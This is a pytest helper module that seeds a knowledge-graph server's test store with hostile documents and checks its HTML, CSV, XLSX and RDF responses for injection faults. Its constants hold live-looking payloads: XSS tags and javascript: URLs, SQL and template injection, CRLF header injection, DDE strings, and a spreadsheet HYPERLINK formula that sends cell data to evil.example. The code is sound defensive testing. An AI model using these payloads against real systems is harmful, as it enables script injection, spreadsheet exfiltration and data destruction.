"""A store of documents that mean harm in every field, and what no answer about them may hold.

PYTEST_DONT_REWRITE: test modules import from here before pytest takes this module as a plugin.
"""

from __future__ import annotations

import base64
import csv
import hashlib
import io
import json
import re
from collections.abc import Iterator, Mapping
from html.parser import HTMLParser
from pathlib import Path
from typing import Protocol
from urllib.parse import unquote, urlsplit

import openpyxl
import pyoxigraph as ox
import pytest

from kg import pipeline

BREAKOUT = '"><script>alert(1)</script>'
TAGS = "<img src=x onerror=alert(1)><svg onload=alert(1)></style></textarea></title><!--"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"more")'
TEMPLATE = "{{7*7}} ${7*7} {% raw %} #{7*7}"
SQL = "'; DROP TABLE work; --"
HIDDEN = "\u202egnp.exe\u2066 \u200b\x1b[31m"
LINES = "one\r\nSet-Cookie: evil=1\r\n\r\n"
LONG = "Wxyz" * 2000

TEXTS = (BREAKOUT, TAGS, FORMULA, TEMPLATE, SQL, HIDDEN, LINES, "+1+cmd|' /C calc'!A0", "javascript:alert(1)")
"""What is asked for too, in every parameter."""

_CLAIMS = (
    "Local protectionism hinders regional economic integration in China. "
    f"Tax sharing {BREAKOUT} promotes economic growth. Fiscal {TAGS} transfers reduce regional inequality. "
    f"River pact <b>scheme</b> promotes intergovernmental cooperation (Eve{BREAKOUT} 1999). "
    f"According to Mallory (2001), {SQL} trust promotes joint action {TEMPLATE} in Canada. {FORMULA} hinders trade.\n\n"
    f"# {BREAKOUT}\n\n{LONG} promotes economic growth. Local protectionism hinders economic growth {HIDDEN}.\n"
)
_OPPOSITE = (
    "Local protectionism does not hinder regional economic integration in China. "
    "River pact schemes do not promote intergovernmental cooperation. Tax sharing promotes economic growth."
)
_NAMES = (
    "'\"><svg onload=alert(1)>.md",
    "=cmd|' C calc'!A1.md",
    "%0d%0aSet-Cookie: evil=1 %2e%2e.md",
    "\u202egnp {{7*7}} 'x' #?&.md",
    "; DROP TABLE work; --.md",
)


class Answer(Protocol):
    """What a client got."""

    @property
    def status_code(self) -> int: ...
    @property
    def text(self) -> str: ...
    @property
    def content(self) -> bytes: ...
    @property
    def headers(self) -> Mapping[str, str]: ...


@pytest.fixture(scope="session")
def hostile_store(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A store of documents that mean harm; not to be changed."""
    folder = tmp_path_factory.mktemp("hostile")
    papers = folder / "papers"
    papers.mkdir()
    fields = (BREAKOUT, FORMULA, TAGS, TEMPLATE + SQL, HIDDEN + LINES)
    for number, (name, field) in enumerate(zip(_NAMES, fields, strict=True)):
        text = _OPPOSITE if number % 2 else _CLAIMS
        (papers / name).write_text(f"{_front(field, number)}{text}", encoding="utf-8")
    pipeline.build([papers], folder / "kg", pipeline.Settings())
    return folder / "kg"


def _front(field: str, number: int) -> str:
    """Front matter with a text in every field; JSON is YAML."""
    fields = {
        "title": f"{field} {number}",
        "authors": [f"{field} Eve", BREAKOUT, FORMULA],
        "year": 2001 + number,
        "doi": f"10.1234/{BREAKOUT}",
        "url": "javascript:alert(1)//https://x.org/",
        "journal": field,
        "publisher": TAGS,
        "abstract": f"{BREAKOUT} Tax sharing promotes economic growth.",
        "places": ["China", BREAKOUT, field],
        "keywords": [field, TEMPLATE, SQL],
        "language": BREAKOUT,
    }
    return "---\n" + "".join(f"{name}: {json.dumps(value)}\n" for name, value in fields.items()) + "---\n"


class Parsed(HTMLParser):
    """The elements of a page, with what is wrong with them, and where it leads."""

    def __init__(self, html: str, policy: str) -> None:
        super().__init__(convert_charrefs=True)
        self.policy = policy
        self.wrong: list[str] = []
        self.links: list[str] = []
        self.forms: list[dict[str, object]] = []
        self._inside = ""
        self._styled = "'unsafe-inline'" in policy.partition("style-src")[2].partition(";")[0]
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = {name: value or "" for name, value in attrs}
        self._inside = tag if tag in ("script", "style") and "src" not in values else ""
        if values.get("type") == "application/json":
            self._inside = ""
        self.wrong += [f"{tag} {name}={value}" for name, value in values.items() if self._is_wrong(tag, name, value)]
        if tag == "form":
            self.forms.append({"action": values.get("action", ""), "method": values.get("method", "get"), "fields": {}})
        elif tag in ("input", "select", "textarea", "button") and "name" in values and self.forms:
            fields = self.forms[-1]["fields"]
            assert isinstance(fields, dict)
            fields[values["name"]] = values.get("value", "")
        self.links += [value for name, value in values.items() if name in ("href", "src")]

    def handle_endtag(self, tag: str) -> None:
        self._inside = ""

    def handle_data(self, data: str) -> None:
        if re.search("[\u202e\u2066\x1b]", data):
            self.wrong.append(f"hidden character: {data[:60]!r}")
        if self._inside == "script" or (self._inside == "style" and not self._styled):
            digest = base64.b64encode(hashlib.sha256(data.encode()).digest()).decode()
            if f"'sha256-{digest}'" not in self.policy:
                self.wrong.append(f"{self._inside}: {data[:60]}")

    def _is_wrong(self, tag: str, name: str, value: str) -> bool:
        if name.startswith("on") or name in ("srcdoc", "http-equiv"):
            return not (name == "http-equiv" and value == "Content-Security-Policy")
        if name == "style":
            return not self._styled
        if tag in ("script", "link", "img", "iframe", "embed", "object") and name in ("src", "href", "data"):
            return urlsplit(value).scheme not in ("", "data") or value.startswith("//")
        if name in ("href", "action", "formaction", "src"):
            return urlsplit(value).scheme not in ("", "http", "https") or value.startswith(("//", "\\"))
        return False


def faults(answer: Answer) -> list[str]:
    """What is wrong with an answer, whatever it is."""
    found = [f"status {answer.status_code}"] if answer.status_code >= 500 else []
    headers = {name.lower(): value for name, value in answer.headers.items()}
    policy = headers.get("content-security-policy", "")
    found += ["no policy"] if "default-src 'none'" not in policy else []
    found += ["sniffed"] if headers.get("x-content-type-options") != "nosniff" else []
    found += [f"header {name}" for name, value in headers.items() if re.search(r"[^\x20-\x7e]", value)]
    found += [name for name in ("access-control-allow-origin", "evil") if name in headers]
    found += ["cookie"] if "evil=" in headers.get("set-cookie", "") else []
    where = headers.get("location", "/")
    found += [f"location {where}"] if not re.match(r"/(?![/\\])|\?|http://127\.0\.0\.1:8000/", where) else []
    kind = headers.get("content-type", "").partition(";")[0]
    return found + list(_CHECKS.get(kind, lambda answer, policy: ())(answer, policy))


def _page(answer: Answer, policy: str) -> Iterator[str]:
    yield from Parsed(answer.text, policy).wrong
    if re.search(r"49 (\$\{7\*7\}|49)", answer.text):
        yield "a template ran"


def _cells(rows: Iterator[list[str]]) -> Iterator[str]:
    for row in rows:
        for cell in row:
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not re.fullmatch(r"[+-]?[\d.]+(e-?\d+)?", cell):
                yield f"formula {cell[:60]!r}"


def _table(answer: Answer, _: str) -> Iterator[str]:
    if "attachment" in answer.headers.get("content-disposition", ""):  # SPARQL's own CSV is as the standard has it
        yield from _cells(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"), newline="")))


def _book(answer: Answer, _: str) -> Iterator[str]:
    for sheet in openpyxl.load_workbook(io.BytesIO(answer.content)):
        for cell in (cell for row in sheet.iter_rows() for cell in row):
            if cell.data_type == "f":
                yield f"formula {cell.value!r}"
            if cell.hyperlink and urlsplit(cell.hyperlink.target or "").scheme not in ("", "http", "https"):
                yield f"link {cell.hyperlink.target}"


def _graph(answer: Answer, _: str) -> Iterator[str]:
    kind = answer.headers["content-type"].partition(";")[0]
    format = ox.RdfFormat.from_media_type(kind)
    assert format is not None
    try:
        list(ox.parse(answer.content, format=format, base_iri="http://127.0.0.1:8000/"))
    except SyntaxError as error:
        yield f"no {kind}: {error}"


def _json(answer: Answer, _: str) -> Iterator[str]:
    json.loads(answer.content)
    yield from ()


_CHECKS = {
    "text/html": _page,
    "text/csv": _table,
    "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet": _book,
    "application/json": _json,
    "application/sparql-results+json": _json,
    "application/ld+json": _graph,
    **dict.fromkeys(("text/turtle", "application/n-triples", "application/rdf+xml"), _graph),
}


def leads(answer: Answer, at: str) -> Iterator[str]:
    """The addresses of this server that a page leads to, by its links and the forms that only read."""
    if not answer.headers.get("content-type", "").startswith("text/html"):
        return
    parsed = Parsed(answer.text, answer.headers.get("content-security-policy", ""))
    for link in parsed.links:
        if link and not urlsplit(link).scheme and not link.startswith(("//", "#")):
            yield (at.partition("?")[0] + link if link.startswith("?") else link).partition("#")[0]


def shape(address: str) -> tuple[str, str, str]:
    """What addresses of one kind share: the first segment, the ending, and the names of the parameters."""
    path, _, query = address.partition("?")
    ending = path.rpartition(".")[2] if "." in path[-6:] else ""
    names = sorted({part.partition("=")[0] for part in query.split("&")})
    return unquote(path).split("/")[1][:20], ending[:6], " ".join(names)
